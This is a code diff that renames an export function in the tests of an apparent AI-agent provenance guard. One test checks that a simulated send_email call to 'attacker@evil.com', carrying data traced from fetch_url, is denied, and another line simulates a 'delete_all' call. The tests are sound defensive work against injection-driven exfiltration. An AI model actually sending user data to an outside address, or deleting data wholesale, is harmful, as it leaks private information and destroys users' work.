@@ -7,7 +7,7 @@ import pytest
 from agentserver.observers import fields
 from agentserver.provenance import Mode, explain
 from agentserver.provenance.evidence.labels import Call, Leaf
-from agentserver.provenance.explaining import facts
+from agentserver.provenance.explanation import export_findings
 from agentserver.provenance.library.approval import digest
 from agentserver.provenance.verdict import Decision
 from tests.provenance.scenes import Scenario, desk
@@ -75,14 +75,14 @@ def test_control_characters_of_a_value_never_reach_a_terminal() -> None:
 
 def test_the_data_is_json_with_the_same_facts() -> None:
     verdict = scene().call("send_email", to="attacker@evil.com", body="x")
-    data = fields(facts(verdict))
+    data = fields(export_findings(verdict))
     assert json.loads(json.dumps(data)) == data
     [finding] = data["findings"]
     assert data["decision"] == "deny"
     assert finding["rule"] == "destination"
     assert finding["trail"]["source"] == "fetch_url"
     assert finding["trail"]["hops"] == [{"listener": "summariser", "field": "", "step": 2}]
-    assert facts(scene().call("delete_all")).findings[0].role == ""
+    assert export_findings(scene().call("delete_all")).findings[0].role == ""
 
 
 def test_an_approval_binds_to_one_call() -> None:
